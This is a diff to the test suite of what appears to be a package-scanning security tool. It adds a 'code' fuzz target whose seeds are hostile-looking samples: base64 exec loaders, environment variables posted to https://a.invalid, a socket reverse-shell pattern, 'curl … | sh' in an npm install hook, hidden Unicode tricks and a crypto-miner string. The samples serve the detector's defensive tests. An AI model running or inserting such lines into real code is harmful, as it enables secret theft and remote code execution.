@@ -34,7 +34,9 @@ from test_image import HOSTILE_IMAGES
 
 from lambdaward.model import InputError
 from lambdaward.packages import Form, inspect, sbom, views
+from lambdaward.packages.behaviour import Behaviour
 from lambdaward.packages.lock import Project, lock_of, read_lists, read_lock, written, written_lists
+from lambdaward.packages.malware import Search
 from lambdaward.packages.signing import Roots, image_signatures, trust, verify
 from lambdaward.packages.signing.chain import fingerprint
 from lambdaward.packages.signing.reading import Reading
@@ -190,6 +192,47 @@ def _small(recipes: dict[str, tuple[bytes, set[str]]], mark: str = "") -> list[b
     return [data for name, (data, _) in recipes.items() if name.startswith(mark) and len(data) < 20_000]
 
 
+def check_code(data: bytes) -> None:
+    """Tell what code can do and does, by each name that calls for another reader. What is told can be printed."""
+    for name in ("m.py", "m.js", "m.sh", "x.pth", "package.json", "m.so", "setup.py"):
+        search, behaviour = Search(), Behaviour()
+        for entry in walk_bytes(data, name):
+            if not isinstance(entry, Fault):
+                search.see(entry)
+                behaviour.see(entry)
+        for told in (*search.suspects(), *(sight for each in behaviour.able(()) for sight in each.sights)):
+            assert str(told).isprintable(), told
+
+
+def code_seeds() -> list[bytes]:
+    """Code of each kind that is read closely."""
+    python = (
+        b"import base64, os, socket, subprocess, requests as r\nfrom os import *\nx = base64.b64decode('"
+        + b"QUJD" * 20
+        + b"')\n"
+        b"exec(compile(x, 'a', 'exec'))\nd = {**os.environ}\nr.post('https://a.invalid', data=str(d))\n"
+        b"class A(B):\n    def eval(self): getattr(os, 'system')(__import__('os').popen(f'{x!r}'))\n"
+        b"with socket.socket() as s:\n    os.dup2(s.fileno(), 0)\n    subprocess.run(s.recv(9), stdin=s)\n"
+    )
+    script = (
+        b"const {exec} = require('child_process'); eval(Buffer.from('QUJD', 'base64').toString());\n"
+        b"fetch(u, {body: JSON.stringify(process.env)}); exec('curl https://a.invalid | sh'); var _0xabcd;\n"
+    )
+    manifest = (
+        b'{"name": "a", "scripts": {"postinstall": "node -e \\"eval(x)\\" && node ./x.js", "install": "curl a | sh"}}'
+    )
+    lines = b"import os; exec(__import__('base64').b64decode('QQ=='))\n"
+    hidden = ("x = '" + "\ufe01" * 30 + "' # \u202e (;)").encode()
+    return [
+        python,
+        script,
+        manifest,
+        lines,
+        hidden,
+        shared_library("libx.so.1", ["libc.so.6"], b"stratum+tcp:// xmrig"),
+    ]
+
+
 TARGETS: dict[str, tuple[list[bytes], Callable[[bytes], None]]] = {
     "zip": (_small(HOSTILE_ZIPS), check_walk),
     "tar": (_small(HOSTILE_OTHERS, "tar"), check_walk),
@@ -200,6 +243,7 @@ TARGETS: dict[str, tuple[list[bytes], Callable[[bytes], None]]] = {
     "image": ([as_tar(make()) for make, _ in HOSTILE_IMAGES.values()], check_walk),
     "components": (program_seeds(), check_bill),
     "views": (file_seeds(), check_views),
+    "code": (code_seeds(), check_code),
     "signed": ([signed_zip(), signed_zip(method=0)], check_signed),
     "message": ([Signing().message(bytes(48)), *signed_files().values()], check_message),
     "layout": (layout_seeds(), check_layout),
